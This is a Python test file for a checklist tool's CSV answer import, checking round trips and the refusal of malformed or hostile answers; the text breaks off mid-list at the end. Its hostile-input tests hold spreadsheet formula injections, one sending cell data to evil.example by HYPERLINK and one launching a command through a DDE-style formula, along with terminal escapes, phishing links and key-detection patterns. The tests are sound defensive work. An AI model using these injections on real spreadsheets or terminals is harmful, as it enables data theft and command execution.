"""Tests for recording answers: `import`, `items`, `status` and their refusals, run in-process.

Every refused import must exit 1, name the CSV line, and leave the checklist byte-for-byte unchanged.
The hostile cases B1 to B16 follow the hostile-input review of 2026-12-06; later rounds' tests are named by
round and defect (D, E, G, h5_ to h16_, s17_), one test per defect. C1 to C7 follow the fourth round of new-user
reviews; test_form.py has their tests of the answer form.
"""
import argparse
import base64
import csv
import errno
import io
import json
import os
import random
import re
import shutil
import signal
import stat
import subprocess
import tempfile
import sys
import threading
import time

from support import (FIXTURE, H10_ACCEPTED, H10_REFUSED, H11_6_ACCEPTED, H11_6_REFUSED, H11_ACCEPTED, H11_REFUSED,
                     H9_ACCEPTED, H9_REFUSED, H12_LABELS, H12_NAMES, H12_NOT_LABELS, H12_PLACEHOLDERS,
                     H12_SIM_ACCEPTED, H12_SIM_REFUSED, H12_STILL_JUDGED, R13_ACCEPTED, R13_PASSWORDS,
                     R13_SIM_REFUSED, H13_WORD_YEAR, H14_WEAK, H14_NAMES, H14_PUT_OFF, H14_NOT_PUT_OFF,
                     H15_PAIRS, H15_PAIR_ACCEPTED, H15_SHEET, H15_NOT_SHEET, H16_NAMES, H16_PAIRS,
                     CONTEXT_ACCEPTED, CONTEXT_REFUSED, cold_caches, BOUND_ACCEPTED, BOUND_REFUSED,
                     N3_REFUSED, N5_ACCEPTED, PROGRAM, README, ROOT, Sandbox, cl,
                     deadline, defects, expect, line_of, quick, refused_exactly, run_main, swap, test, unanswered)


def refuse(content, message, text=FIXTURE):
    with Sandbox(text) as box:
        return box.refused(content, message)


def shipped_readme():
    return unanswered(README.read_text(encoding="utf-8"))


# ---------------------------------------------------------------- the round trip

@test
def round_trip_on_the_real_checklist():
    with Sandbox(shipped_readme()) as box:
        exported = box.run("items", "--format", "csv").stdout
        lines = exported.lstrip("\ufeff").split("\n", 1)               # after the byte-order mark (D9)
        assert lines[0].lstrip('"').startswith(f"# {cl.SHEET_HINT} Role: builder."), lines[0]
        rows = list(csv.DictReader(io.StringIO(lines[1])))
        answers = {"LIC-1": "no", "REQ-3": "United States: development and laboratory test",
                   "REQ-7": "not needed: no Huawei product is in use"}
        for row in rows:
            row["answer"] = answers.get(row["id"], row["answer"])
        out = io.StringIO()
        out.write(lines[0] + "\n")
        writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
        box.accepted(out.getvalue())
        listed = json.loads(box.run("items", "--format", "json").stdout)["items"]
        assert not [r["id"] for r in listed if r["id"].startswith("DEL-")], "DEL items still listed"
        assert {r["id"]: r["answer"] for r in listed}["LIC-1"] == "`no`"
        states = {r["id"]: r["state"] for r in json.loads(box.run("status", "--format", "json").stdout)}
        assert states["REQ-3"] == "answered" and states["REQ-7"] == "not needed", states
        assert box.run("check").returncode == 0
        again = box.run("import", box.csv(out.getvalue()))
        assert again.returncode == 0 and "nothing to record" in again.stdout, again


@test
def untouched_exports_reimport_byte_identical():
    import argparse
    doc = cl.parse(shipped_readme())
    for key, party in [(key, party) for key in doc.profiles for party in (None, *doc.parties)]:
        args = argparse.Namespace(profile=key, answers=None, party=party, involving=None, stage=None, group=None, format="csv")
        exported = cl.cmd_items(doc, args).text
        rows, problems = cl.csv_rows(exported.lstrip("\ufeff"), ",")      # as read_csv reads it
        changes, more = cl.plan_answers(doc, rows, replace=False)
        assert not problems and not more and not changes, (key, party, problems, more, changes)
    with Sandbox(shipped_readme()) as box:                # and once end to end, byte for byte
        before = box.doc.read_bytes()
        result = box.run("import", box.csv(box.run("items", "--profile", "vendor", "--format", "csv").stdout))
        assert result.returncode == 0 and "nothing to record" in result.stdout, result
        assert box.doc.read_bytes() == before


@test
def assumptions_are_never_in_the_answer_column():
    with Sandbox() as box:
        exported = box.run("items", "--profile", "lab", "--format", "csv").stdout
        rows = list(csv.DictReader(io.StringIO(exported.split("\n", 1)[1])))
        assumed = {r["id"]: r["assumed"] for r in rows if r["assumed"]}
        assert assumed["REQ-1"] == "`teaching` (profile lab)", assumed
        assert not any(r["answer"] for r in rows)
        md = box.run("items", "--profile", "lab").stdout
        assert "**Assumed, not recorded:** `teaching` (profile lab)" in md, md


@test
def answers_in_a_csv_route_without_writing():
    with Sandbox(shipped_readme()) as box:
        before = box.doc.read_bytes()
        answers = box.csv("id,answer\nLIC-1,no; public standards only\nREQ-3,Canada\n")
        listed = json.loads(box.run("items", "--answers", answers, "--format", "json").stdout)["items"]
        assert not [r["id"] for r in listed if r["id"].startswith("DEL-")], "DEL items still listed"
        lic1 = next(r for r in listed if r["id"] == "LIC-1")
        assert lic1["assumed"].startswith("`no`; public standards only"), lic1
        states = {r["id"]: r["state"] for r in
                  json.loads(box.run("status", "--answers", answers, "--format", "json").stdout)}
        assert states["LIC-1"] == "answered" and states["REQ-3"] == "answered", states
        bad = box.run("items", "--answers", box.csv("id,answer\nLIC-1,maybe\n", "bad.csv"))
        assert bad.returncode == 1 and "bad.csv:2: LIC-1: 'maybe' is not an answer of LIC-1" in bad.stderr, bad
        assert box.doc.read_bytes() == before, "the checklist changed"


@test
def a_profile_combines_with_ones_own_answers():
    with Sandbox() as box:
        mine = box.csv("id,answer\nLIC-1,yes\n")
        listed = json.loads(box.run("items", "--profile", "lab", "--answers", mine, "--format", "json").stdout)
        ids = {r["id"] for r in listed["items"]}
        assert "LIC-2" in ids and "DEL-1" in ids and "DEL-2" not in ids, ids
        assert "the answers in" in listed["answers"] and "profile `lab`" in listed["answers"]


@test
def the_role_heads_every_packet():
    with Sandbox() as box:
        md = box.run("items", "--profile", "vendor").stdout
        assert "Your role: **maker**" in md and "**In your role:** the channels" in md, md
        data = json.loads(box.run("items", "--profile", "vendor", "--format", "json").stdout)
        assert data["role"] == "maker" and data["rule"] == "what the product must support"
        first = box.run("items", "--profile", "vendor", "--format", "csv").stdout.lstrip("\ufeff").split("\n", 1)[0]
        assert first.lstrip('"').startswith(f"# {cl.SHEET_HINT} Role: maker. Answer an item written for someone else with what the "
                                            "product must support"), first


@test
def semicolons_bom_and_lower_case_ids_are_accepted():
    with Sandbox() as box:
        text = box.accepted(b"\xef\xbb\xbfID;Answer;Note\nlic-1;no;\n")
        assert "  - **Answer:** `no`" in text and '- [x] <a id="lic-1">' in text


@test
def routing_answer_with_parts_and_comment():
    with Sandbox() as box:
        text = box.accepted('id,answer\nREQ-2,"ap=build, radio=out; radios later"\n')
        assert "  - **Answer:** `ap=build`, `radio=out`; radios later" in text


@test
def readme_examples_import_as_written():
    with Sandbox(shipped_readme()) as box:
        typed = box.accepted('id,answer\nREQ-1,"research, teaching"\nLIC-1,`no`; public standards only\n')
        assert "**Answer:** `research`, `teaching`" in typed and "`no`; public standards only" in typed
    with Sandbox(shipped_readme()) as box:
        box.accepted(b'\xef\xbb\xbfid;answer\r\nREQ-3;"United States; development"\r\n')   # a spreadsheet's CSV
    refuse("id,answer\nREQ-3,4 sites, 2 labs\n", "put the answer in quotes if it contains ','")


@test
def replace_overwrites_and_same_answer_is_a_no_op():
    with Sandbox() as box:
        box.accepted("id,answer\nLIC-1,no\n")
        before = box.doc.read_bytes()
        same = box.run("import", box.csv("id,answer\nLIC-1,no\n"))
        assert same.returncode == 0 and box.doc.read_bytes() == before
        box.refused("id,answer\nLIC-1,yes\n", "answers.csv:2: LIC-1 already has a different answer")
        box.refused("id,answer\nLIC-1,yes\n", "answers.csv:2: LIC-1 already has a different answer; to replace it",
                    "--replace")
        text = box.accepted("id,answer,recorded\nLIC-1,yes,no\n", "--replace")
        assert "**Answer:** `yes`" in text and "**Answer:** `no`" not in text


@test
def forgiving_spelling_and_outside_identifiers():
    with Sandbox() as box:
        body = ('id,answer\nREQ-1,Teaching\nREQ-2,"AP = build, radio=OUT"\n'
                "REQ-3,memo REG-2026-03 and sha256: " + "ab12" * 16 + "\n")
        text = box.accepted(body)
        assert "**Answer:** `teaching`" in text and "**Answer:** `ap=build`, `radio=out`" in text
        assert box.run("check").returncode == 0


@test
def not_needed_is_not_a_routing_answer():
    refuse("id,answer\nLIC-1,not needed: no licence\n", "LIC-1 is a routing item: answer with")


@test
def answer_to_an_item_that_does_not_apply_is_kept_with_a_note():
    with Sandbox() as box:
        result = box.run("import", box.csv("id,answer\nLIC-1,no\nDEL-1,repository at example\n"))
        assert result.returncode == 0 and "DEL-1 does not apply" in result.stdout, result


@test
def status_suggests_only_items_that_apply():
    with Sandbox() as box:
        plain = box.run("status").stdout
        assert "Routing items not answered: REQ-1, REQ-2, LIC-1." in plain, plain
        routed = box.run("status", "--profile", "lab").stdout
        assert "given profile `lab`" in routed and "Routing items not answered: REQ-1, " in routed and \
            "(each assumed by the profile)." in routed, routed
        assert "1. REQ-3:" in routed and "LIC-2" not in routed.split("## Next to answer")[1], routed


@test
def items_with_nothing_recorded_start_with_a_summary():
    with Sandbox() as box:
        text = box.run("items").stdout
        out = text.split("\n")
        assert out[4].startswith("Nothing is recorded yet: 8 items may apply"), out[:6]
        assert "  - **Waits on:** LIC-1" in text, text


@test
def a_party_with_nothing_accountable_points_to_involving():
    with Sandbox() as box:
        out = box.run("items", "--profile", "lab", "--party", "licensor").stdout
        assert "No item that applies is accountable to `licensor`, and none names it." in out, out
        out = box.run("items", "--profile", "vendor", "--party", "licensor", "--stage", "plan")
        assert "1 item names it as a contributor: use --involving licensor" in out.stdout, out


@test
def enquiry_clears_only_whether_the_offer_stands():
    doc = cl.load(str(README))
    base = dict(doc.profiles["vendor"].assumes)
    base["EXP-1"] = ["enquiry"]
    licensor = [r.item.id for r in cl.applicable(doc, base) if r.applies and r.item.party == "licensor"]
    assert licensor == ["LIC-13"], licensor


@test
def profiles_show_prints_assumptions_and_first_items():
    with Sandbox() as box:
        out = box.run("profiles", "--show", "vendor").stdout
        assert "- LIC-1 `yes`" in out and "1. REQ-3:" in out and "Role: **maker**" in out, out
        listing = box.run("profiles").stdout
        assert listing.startswith("lab       4 items  Teaching lab"), listing


@test
def stats_reports_words():
    with Sandbox() as box:
        data = json.loads(box.run("stats", "--format", "json").stdout)
        assert data["items"] == 8 and data["item_max"] < 40, data


# ---------------------------------------------------------------- bad input, nothing written

@test
def not_utf8():
    refuse(b"id,answer\nREQ-3,caf\xe9\n", "answers.csv:2: not UTF-8")


@test
def not_csv():
    refuse(b"PK\x03\x04\x00\x00binary", "answers.csv:1: not a CSV file")
    refuse('[{"id": "LIC-1", "answer": "no"}]', "no 'id' and 'answer' columns")


@test
def missing_columns():
    refuse("id,reply\nLIC-1,no\n", "no 'id' and 'answer' columns")
    refuse("", "no 'id' and 'answer' columns")


@test
def unknown_and_repeated_ids():
    refuse("id,answer\nLIC-99,yes\n", "answers.csv:2: 'LIC-99' is not an item")
    refuse("id,answer\nREQ-3,4\nLIC-1,no\nREQ-3,5\n", "answers.csv:4: REQ-3 appears twice (first at line 2)")


@test
def undeclared_routing_answers():
    refuse("id,answer\nLIC-1,maybe\n", "answers.csv:2: LIC-1: 'maybe' is not an answer of LIC-1")
    refuse('id,answer\nLIC-1,"yes, no"\n', "answers.csv:2: LIC-1 takes exactly one answer")
    refuse("id,answer\nREQ-2,ap=build\n", "answers.csv:2: REQ-2: no value for part(s) radio")
    refuse('id,answer\nREQ-2,"ap=build, radio=out, wall=build"\n', "'wall=build' is not part=value")
    refuse("id,answer\nREQ-2,build\n", "REQ-2: 'build' is not part=value")
    refuse("id,answer\nLIC-1,no; see `memo`\n", "the comment after ';' may not contain backticks")


@test
def allowed_answers_are_listed_once():
    message = refuse("id,answer\nLIC-1,maybe\n", "is not an answer of LIC-1")
    assert "['yes', 'no', 'undecided']" in message, message


@test
def not_needed_without_reason():
    refuse("id,answer\nREQ-3,not needed\n", "answers.csv:2: REQ-3: 'not needed' must give its reason, "
           "for example 'not needed: we run no radios'")
    with Sandbox() as box:
        box.accepted("id,answer\nREQ-3,Not needed: one site only\n")


@test
def answers_that_would_break_the_document():
    refuse('id,answer\nREQ-3,"two\nlines"\n', "answers.csv:2: REQ-3: an answer is one line; put a line break as '; '")
    refuse("id,answer\nREQ-3,* a bullet\n", "may not start with a list")
    refuse("id,answer\nREQ-3,## heading\n", "may not start with a list")
    refuse("id,answer\nREQ-3,see <!-- hidden\n", "may not contain HTML")
    refuse("id,answer\nREQ-3,4 `sites\n", "unmatched backtick")


@test
def extra_cells_and_repeated_header_names():
    refuse("id;answer\nREQ-3;a, b; c\n", "answers.csv:2: more cells than the header has columns")
    refuse("id,answer,id\nREQ-3,4,\n", "answers.csv:1: the header names 'id' more than once")


@test
def crlf_line_endings_are_kept():
    with Sandbox(FIXTURE.replace("\n", "\r\n")) as box:
        box.accepted("id,answer\nREQ-3,12 sites\n")
        raw = box.doc.read_bytes()
        assert raw.count(b"\n") == raw.count(b"\r\n") and b"**Answer:** 12 sites\r\n" in raw


@test
def read_only_checklist_is_refused():
    with Sandbox() as box:
        box.doc.chmod(0o444)
        box.refused("id,answer\nREQ-3,12 sites\n", "is read-only; nothing written")


@test
def file_mode_is_kept():
    with Sandbox() as box:
        box.doc.chmod(0o640)
        box.accepted("id,answer\nREQ-3,12 sites\n")
        assert box.doc.stat().st_mode & 0o777 == 0o640


@test
def broken_quoting_is_named_by_line():
    refuse('id,answer\nREQ-3,4\nLIC-1,"no\n', "answers.csv:3: not valid CSV")


@test
def checklist_that_fails_its_check_is_not_touched():
    refuse("id,answer\nLIC-1,no\n", "fails its own check",
           text=swap("| `lab` | Teaching lab | 4 |", "| `lab` | Teaching lab | 5 |"))


@test
def checklist_that_is_not_utf8_is_a_clear_error():
    with Sandbox(FIXTURE.encode("utf-8") + b"\xff\n") as box:
        result = box.run("check")
        assert result.returncode == 2 and "not UTF-8 text" in result.stderr, result


@test
def change_during_import_is_refused():
    with Sandbox() as box:
        original = box.doc.read_bytes()
        box.doc.write_bytes(original + b"\n")
        try:
            cl.write_atomically(box.doc, original, original.decode())
        except cl.Refusal as e:
            assert "changed while importing" in str(e)
        else:
            raise AssertionError("a stale write was accepted")
        assert box.doc.read_bytes() == original + b"\n"
        assert sorted(p.name for p in box.dir.iterdir()) == ["README.md"], "a temporary file was left"


@test
def an_import_that_finds_the_checklist_changed_records_its_answers_on_the_new_text():
    """H79-29: another import writing between this one's reading and writing does not make this one fail: it plans
    its answers again on the checklist as it now is and records them beside the other's."""
    real = cl.write_atomically

    def another_import_first(path, original, text):
        cl.write_atomically = real
        assert box.run("import", box.csv("id,answer\nLIC-1,no\n", "other.csv")).returncode == 0
        return real(path, original, text)
    with Sandbox() as box:
        cl.write_atomically = another_import_first
        try:
            result = box.run("import", box.csv("id,answer\nREQ-3,12 sites\n"))
        finally:
            cl.write_atomically = real
        text = box.doc.read_text(encoding="utf-8")
        assert result.returncode == 0 and "**Answer:** 12 sites" in text and "**Answer:** `no`" in text, result
        assert cl.run_rules(cl.parse(text)) == []


# ---------------------------------------------------------------- hostile input (review of 2026-12-06)

@test
def b01_spreadsheet_formulas_are_refused():
    for value in ('"=HYPERLINK(""http://evil.example/?d=""&A2,""open"")"', "+1+555", "+1-555-0100*2",
                  "+44 20 7946 0123 =1+1", "+1-555-0100+cmd|' /C calc'!A0", "-2 dB", "@SUM(A1)"):
        refuse(f"id,answer\nREQ-3,{value}\n", "which a spreadsheet runs as a formula")


@test
def h49_an_answer_may_start_with_a_phone_number_and_its_sheet_imports_unchanged():
    """H49-1: an answer may start with a phone number in international form ('+44 20 7946 0958 is the NOC line');
    the export writes it after an apostrophe, as any cell that starts with a formula's sign, and import reads the
    apostrophe as the export's, so the untouched sheet records nothing new, with --replace too."""
    with Sandbox() as box:
        box.accepted('id,answer\nREQ-3,"+44 20 7946 0958 is the NOC line"\n')
        exported = box.run("items", "--format", "csv").stdout
        assert ",'+44 20 7946 0958 is the NOC line," in exported, exported
        before = box.doc.read_bytes()
        for flags in ((), ("--replace",)):
            result = box.run("import", box.csv(exported, "export.csv"), *flags)
            assert "nothing to record" in result.stdout and box.doc.read_bytes() == before, result


@test
def b01_exported_cells_never_start_a_formula():
    text = swap("  - **Form:** a number.", "  - **Form:** =1+1")
    with Sandbox(text) as box:
        exported = box.run("items", "--format", "csv").stdout
        assert ",'=1+1," in exported, exported


@test
def b02_secrets_in_other_encodings_are_refused():
    key = "465b5ce8b199b49faa5f0a2ee238a6bc"
    for value in ("465b 5ce8 b199 b49f aa5f 0a2e e238 a6bc", ":".join(key[k:k + 2] for k in range(0, 32, 2)),
                  "K=Rltc6LGZtJ+qXwou4jimvA==", "OPc md5: " + key, "sha256: " + key,
                  "key Rltc6LGZtJ-qXwou4jimvA_x9Tq", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sig",
                  "IZNVY2FRTG2J7KS7BIXOEOFGXQ4TK3A5", "-----begin private key-----"):
        refuse(f'id,answer\nREQ-3,"{value}"\n', "this looks like")
    refuse('id,answer\nREQ-3,"' + "\u200b".join(key) + '"\n', "invisible or control character")
    assert cl.secret_in("\u200b".join(key))


@test
def b02_hashes_urls_and_identifiers_are_accepted():
    with Sandbox() as box:
        box.accepted("id,answer\nREQ-3,build sha256: " + "0a1b2c3d" * 8 + "\n")
    for value in ("see https://github.com/PyCQA/flake8/blob/main/src/flake8/plugins/finder.py",
                  "see docs/Release17/TS38331/Annex/ModuleA/Section5/Table2",
                  "sent: <https://dms.example/doc/42>", "memo 123e4567-e89b-12d3-a456-426614174000",
                  "a bad decade, 2026-12-06, 10.45.0.0/16"):
        with Sandbox() as box:
            box.accepted(f'id,answer\nREQ-3,"{value}"\n')


@test
def b03_long_answers_are_capped_and_checked_in_linear_time():
    refuse("id,answer\nREQ-3," + "[" * 100000 + "\n", "longer than 2,000 characters")
    line = "x " + "[" * 10000                           # about 0.3 s here; quadratic, it took 40 s for 100,000
    assert quick(lambda: cl.LINK.findall(line) == [] and cl.secret_in(line) is None, 1)


@test
def b04_terminal_escapes_are_not_echoed():
    message = refuse("id,answer\n\x1b]0;pwned\x07\x1b[2JREQ-3,x\n", "is not an item")
    assert "\x1b" not in message and "\\u001b" in message, repr(message)


@test
def b05_misindented_answer_lines_are_seen():
    text = swap("  - **Form:** a number.", "  - **Form:** a number.\n   - **Answer:** Germany")
    assert [d.code for d in cl.run_rules(cl.parse(text))] == ["item-format"]


@test
def b06_not_needed_spellings_need_a_reason():
    for value in ("not  needed", "not-needed", "\uff2e\uff2f\uff34 \uff2e\uff25\uff25\uff24\uff25\uff24"):
        refuse(f"id,answer\nREQ-3,{value}\n", "must give its reason")
    refuse("id,answer\nREQ-3,not needed\u200b\u200b\u200b\n", "invisible or control character")


@test
def b08_invisible_and_bidi_characters_are_refused():
    for char in ("\u200b", "\ufeff", "\u202e", "\u009b", "\u0085", "\u2028"):
        refuse(f"id,answer\nREQ-3,4{char}sites\n", "invisible or control character")


@test
def b09_a_dead_import_leaves_no_lock_behind():
    with Sandbox() as box:
        (box.dir / ".README.md.lock").write_text("123", encoding="utf-8")   # an old-style lock file
        box.accepted("id,answer\nREQ-3,12 sites\n")


@test
def b09_a_held_lock_makes_a_second_import_refuse():
    if cl.fcntl is None:
        return
    with Sandbox() as box:
        with open(box.doc, "rb") as held:
            cl.fcntl.flock(held, cl.fcntl.LOCK_EX)
            pid = os.fork()
            if pid == 0:                                   # the child holds nothing; it tries to import
                result = box.run("import", box.csv("id,answer\nREQ-3,12\n"))
                os._exit(0 if result.returncode == 1 and "another import" in result.stderr else 1)
            _, status = os.waitpid(pid, 0)
        assert status == 0, "the second import did not refuse"


@test
def b10_void_items_refuse_answers():
    refuse("id,answer\nREQ-5,Cisco WLC 5520\n", "REQ-5 is withdrawn (void)")


@test
def b11_ids_must_be_ascii():
    refuse("id,answer\nl\u0131c-1,no\n", "is not an item")


@test
def b13_one_crlf_line_does_not_convert_the_file():
    text = FIXTURE.replace("- [ ] <a id=\"req-3\"></a>**REQ-3** The number of sites.\n",
                           "- [ ] <a id=\"req-3\"></a>**REQ-3** The number of sites.\r\n")
    with Sandbox(text) as box:
        box.accepted("id,answer\nREQ-1,teaching\n")
        raw = box.doc.read_bytes()
        assert raw.count(b"\r\n") == 1, raw.count(b"\r\n")


@test
def b14_repeated_tokens_are_refused():
    refuse('id,answer\nREQ-1,"teaching, teaching"\n', "'teaching' is given twice")


@test
def b15_only_regular_files_and_pipes_are_read():
    with Sandbox() as box:
        result = box.run("import", "/dev/zero")
        assert result.returncode == 1 and "not a regular file" in result.stderr, result
        big = box.csv(b"id,answer\n" + b"x" * (cl.MAX_CSV_BYTES + 1))
        result = box.run("import", big)
        assert result.returncode == 1 and "larger than 16 MiB" in result.stderr, result


@test
def b16_the_delimiter_is_the_one_whose_header_has_both_columns():
    with Sandbox() as box:
        box.accepted('id,answer,"a;b;c;d"\nREQ-3,Germany,\n')


@test
def many_problems_are_summarised():
    body = "id,answer\n" + "".join(f"NOPE-{k},x\n" for k in range(1, 80))
    message = refuse(body, "and 29 more problems")
    assert message.count("\n") < 60


@test
def unreadable_csv_is_refused():
    result = run_main("import", "no-such.csv", "--file", README)
    assert result.returncode == 1 and "no-such.csv: cannot read" in result.stderr, result


# ---------------------------------------------------------------- hostile input, second review (D1 to D21)

K = "465b5ce8b199b49faa5f0a2ee238a6bc"                     # TS 35.208 test set 1
H40 = "2216af7c9e3b4a5d6f708192a3b4c5d6e7f80912"
H64 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"


def pairs(hex_digits, size=2):
    return [hex_digits[k:k + size] for k in range(0, len(hex_digits), size)]


def refused_as_secret(*values):
    """Each value, as an answer, is refused as secret material (by import, and by check by hand)."""
    with Sandbox() as box:
        for value in values:
            cell = '"' + value.replace('"', '""') + '"'
            box.refused(f"id,answer\nREQ-3,{cell}\n", "this looks like")
            assert cl.secret_in(value), value


@test
def d01_hex_keys_with_prefixes_escapes_or_suffixes_are_refused():
    refused_as_secret("K=0x" + K, "OPc 0X" + K.upper(), "{" + ", ".join("0x" + p for p in pairs(K)) + "}",
                      "K=" + "".join("\\x" + p for p in pairs(K)), "K " + K + "h", "K " + K + "g")


@test
def d02_random_keys_in_base64_and_base32_are_refused():
    refused_as_secret("totp seed jbswy3dpehpk3pxpjbswy3dpehpk3pxp", "K: 8NnwerXI9aay/xRkRUw2mg==",
                      "K: lusnjdopJnt4asxdpTAIig", "K: T5XQLDVKV2JIYBMTDLT5IYKMQQ======",
                      "K: 1zAfAuO3xh//cJvRGrl+/W5dYSrET/dEWM18lLTRzvY=")
    rng = random.Random(20261206)
    every = (base64.b64encode, base64.urlsafe_b64encode, base64.b32encode, lambda b: base64.b32encode(b).lower())
    for size, encodings in ((16, every[:1]), (32, every)):          # padded 128-bit base64 is never missed
        for encode in encodings:
            for _ in range(100):
                key = encode(bytes(rng.randrange(256) for _ in range(size))).decode()
                assert cl.text_problems("K: " + key), key
                assert cl.text_problems("K: " + key.rstrip("=")), key


@test
def d03_separators_markup_and_entities_do_not_hide_a_key():
    refused_as_secret("  ".join(pairs(K, 4)), ".".join(pairs(K)), "_".join(pairs(K, 4)), "-".join(pairs(K)),
                      "K " + K[:16] + "`" + K[16:], "K " + K[:16] + "**" + K[16:] + "**",
                      "K " + K[:16] + "&#8203;" + K[16:], "K " + K[:16] + "&shy;" + K[16:],
                      "seed JBSW Y3DP EHPK 3PXP JBSW Y3DP EHPK 3PXP", "K Rltc 6LGZ tJ+q Xwou 4jim vA==")


@test
def d04_a_signal_after_the_swap_leaves_the_answer_recorded():
    replace = os.replace
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        def replace_then_signal(src, dst, sig=sig):
            replace(src, dst)
            os.kill(os.getpid(), sig)
        with Sandbox() as box:
            answers = box.csv("id,answer\nREQ-3,12 sites\n")
            os.replace = replace_then_signal
            try:
                result = box.run("import", answers)
            finally:
                os.replace = replace
            assert result.returncode == 0 and "recorded 1 answer" in result.stdout, (sig, result)
            assert "**Answer:** 12 sites" in box.doc.read_text(encoding="utf-8")
            assert sorted(p.name for p in box.dir.iterdir()) == ["README.md", "answers.csv"]


@test
def h40_6_a_signal_while_the_report_is_made_is_ignored():
    """SIGTERM, SIGHUP and SIGINT that land after the file is replaced, while the import makes its report (a real
    process), leave it to print the report and exit 0 (they ended it with -15 and -1, and no word); the kernel ignores
    them from then on, as Python gives its own handlers back to the default when it exits (H41-8)."""
    late = ("import os, signal, sys\n"
            f"sys.path.insert(0, {os.path.dirname(PROGRAM)!r})\n"
            "import checklist as cl\n"
            "real = cl.applicable\n"
            "def late(*args):\n"
            "    for sig in cl.CAUGHT:\n"
            "        os.kill(os.getpid(), sig)\n"
            "    return real(*args)\n"
            "cl.applicable = late\n"
            "code = cl.main(sys.argv[1:])\n"
            "print('ignored' if all(signal.getsignal(s) == signal.SIG_IGN for s in cl.CAUGHT) else 'caught')\n"
            "sys.exit(code)\n")
    with Sandbox() as box:
        done = subprocess.run([sys.executable, "-c", late, "import", str(box.csv("id,answer\nREQ-3,12 sites\n")),
                               "--file", str(box.doc)], capture_output=True, text=True, timeout=60)
        assert (done.returncode, done.stderr) == (0, "") and "recorded 1 answer: REQ-3" in done.stdout, done
        assert done.stdout.endswith("ignored\n"), done.stdout
        assert "**Answer:** 12 sites" in box.doc.read_text(encoding="utf-8")


@test
def h42_8_ctrl_c_while_the_program_loads_is_a_word_not_a_traceback():
    """SIGINT while the program's modules load (here: as checklist_core is imported) ends it with code 1 and
    'interrupted; nothing written.', not a KeyboardInterrupt traceback and -2."""
    loading = ("import builtins, os, runpy, signal, sys\n"
               "real = builtins.__import__\n"
               "def late(name, *args, **kwargs):\n"
               "    if name == 'checklist_core':\n"
               "        os.kill(os.getpid(), signal.SIGINT)\n"
               "    return real(name, *args, **kwargs)\n"
               "builtins.__import__ = late\n"
               f"sys.argv = [{PROGRAM!r}, 'status', '--file', {str(README)!r}]\n"
               f"runpy.run_path({PROGRAM!r}, run_name='__main__')\n")
    done = subprocess.run([sys.executable, "-c", loading], capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout, done.stderr) == (1, "", "interrupted; nothing written.\n"), done


@test
def d05_a_lone_carriage_return_is_a_defect_and_refused_in_an_answer():
    text = swap("  - **Form:** a number.", "  - **Form:** a number.\r  - **Answer:** forged")
    found = [(d.code, d.line) for d in cl.run_rules(cl.parse(text))]
    assert found == [("line-ending", line_of(text, "forged"))], found
    refuse('id,answer\nREQ-3,"12\rsites"\n', "an answer is one line; put a line break as '; '")


@test
def d06_answers_that_render_blank_are_empty():
    for value in ("[](#req-3)", "![](#req-3)", "\u0301"):
        refuse(f"id,answer\nREQ-3,{value}\n", "answers.csv:2: REQ-3: the answer is empty")
    for value in ("\u3164", "\u2800\u2800", "\u115f\u1160", "\uffa0 \u3164", "Indoor\u3164room", "\ufe0f", "\u034f"):   # H49-32
        refuse(f"id,answer\nREQ-3,{value}\n", "answers.csv:2: REQ-3: the answer holds an invisible or control character")


@test
def d07_html_entities_are_refused():
    for value in ("&nbsp;", "Germany &#x202E;gnitset", "n&#111;t needed", "a &#x1f; b", "R&amp;D"):
        refuse(f"id,answer\nREQ-3,{value}\n", "the answer may not contain HTML entities")
    with Sandbox() as box:
        box.accepted("id,answer\nREQ-3,R&D and AT&T: 2 sites; &c.\n")


@test
def d08_not_needed_through_markup_needs_a_visible_reason():
    for value in ("*not* needed", "`not needed`", "_not_ needed:", "not needed: a\u0301\u0301"):
        refuse(f"id,answer\nREQ-3,{value}\n", "'not needed' must give its reason")
    refuse("id,answer\nLIC-1,*not* needed: no licence\n", "LIC-1 is a routing item")
    assert cl.is_not_needed("*not* needed: one site only") and cl.is_not_needed("`not_needed`: x")


@test
def d09_links_bold_and_look_alike_ids_are_refused():
    for value in ("agreed in [REQ-4](https://evil.example/phish)", "see [REQ-4](<#req-5>)",
                  "see [REQ-4]( #req-5)", "see [x](#req-3)", "![logo](https://tracker.example/p.png)"):
        refuse(f"id,answer\nREQ-3,{value}\n", "may not contain a Markdown link or image")
    refuse("id,answer\nREQ-3,Germany **Note:** forged\n", "may not contain bold text")
    for dash in "\u2010\u2011\u2012\u2013\u2014\u2015\u2212":
        refuse(f"id,answer\nREQ-3,see REQ{dash}4\n", "write item IDs with an ASCII hyphen")
    with Sandbox() as box:
        box.accepted("id,answer\nREQ-3,see <https://dms.example/doc/42> and REQ-4; *one* site\n")


@test
def d10_ordinary_pointers_and_joined_scripts_are_accepted():
    values = [f"see https://github.com/open5gs/open5gs/commit/{H40}",
              f"see https://github.com/open5gs/open5gs/blob/{H40}/configs/open5gs/amf.yaml.in",
              f"SHA256 (fw.bin) = {H64}", "sha256 Fingerprint=" + ":".join(pairs(H64.upper())), f"digest {H64[:56]}", f"checksum {H64 * 2}",
              "UPF at 2001:0db8:85a3:0000:0000:8a2e:0370:7334", "ticket 123e4567-e89b-12d3-a456-426614174000",
              "memo at https://docs.google.com/spreadsheets/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
              "https://contoso.sharepoint.com/:w:/s/legal/EbXyZ12AbCdEfGhIjKlMnOpQrSt3uVwXyZ?e=4aBcDe",
              "see configs/gnb_rf_b210_fdd_srsUE and pduSessionResourceSetupRequestTransfer",
              "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 (Iran: testing)", "Germany \U0001F468\u200d\U0001F4BB team",
              "\u2764\ufe0f\u200d\U0001F525 and \U0001F469\U0001F3FD\u200d\U0001F4BB", "\u0915\u094d\u200d\u0937 lab"]
    assert [(value, cl.text_problems(value)) for value in values if cl.text_problems(value)] == []
    with Sandbox() as box:
        box.accepted("id,answer\n" + "".join(f'{iid},"{value}"\n' for iid, value in (("REQ-3", values[0]),
                                                                                      ("REQ-4", values[-1]))))
    for value in (f"see https://kms.example/k/{K}", f"sha256 {K}", "\u200clab", "1\u200d2",
